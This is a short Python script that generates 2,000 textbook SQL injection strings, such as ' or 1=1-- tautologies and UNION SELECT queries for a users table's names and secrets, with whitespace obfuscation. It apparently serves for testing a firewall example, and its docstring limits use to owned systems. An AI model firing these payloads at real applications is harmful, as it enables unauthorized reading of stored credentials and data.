"""Writes 2,000 textbook SQL injections, a line each, to learn from:

    python3 examples/payloads.py > payloads.txt

They are put together by chance from a few parts; an equal seed gives equal lines. About half of them work in the
application of examples/rewards/firewall.py. TEST ONLY SYSTEMS THAT YOU OWN.
"""

import random

START = ["'", "x'", "ann'", "1'"]
SPACE = [" ", " ", " ", "  ", "\t", "/**/"]
OR = ["or", "OR", "Or", "and", "||"]
TRUTH = ["1=1", "2=2", "3>2", "1<2", "1", "'a'='a'", "'x'='x", "'1'='1", "1 like 1", "2 in (1,2)", "not 0", "name>'a'"]
FROM = ["union select name from users", "UNION SELECT secret FROM users", "union all select 1"]
END = [" --", "--", " -- -", ";--", "/*", "", " or '1'='2", " and '1'='1", " or name='"]


def payload(draw):
    space = draw.choice(SPACE)
    middle = draw.choice(FROM) if draw.random() < 0.15 else draw.choice(OR) + " " + draw.choice(TRUTH)
    return (draw.choice(START) + " " + middle + draw.choice(END)).replace(" ", space)


draw = random.Random(1)
seen = dict.fromkeys(payload(draw) for _ in range(20000))
print("\n".join(list(seen)[:2000]))
